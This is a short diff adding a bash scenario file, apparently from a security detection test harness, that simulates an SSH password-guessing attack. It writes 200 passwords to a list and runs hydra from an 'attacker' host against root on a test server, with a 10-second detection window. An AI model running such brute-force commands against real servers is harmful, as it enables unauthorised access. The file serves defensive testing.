@@ -1,0 +1,12 @@
+# shellcheck shell=bash
+# about: 200 passwords for ssh (hydra)
+# type: attack
+# kind: password_guessing
+# target: server
+# source: attacker
+# tools: hydra sshd
+# within_ms: 10000
+play() {
+	passwords 200 >"$WORK/list"
+	on attacker timeout 30 hydra -I -o /dev/null -l root -P "$WORK/list" -t 8 "ssh://$SERVER_IP"
+}
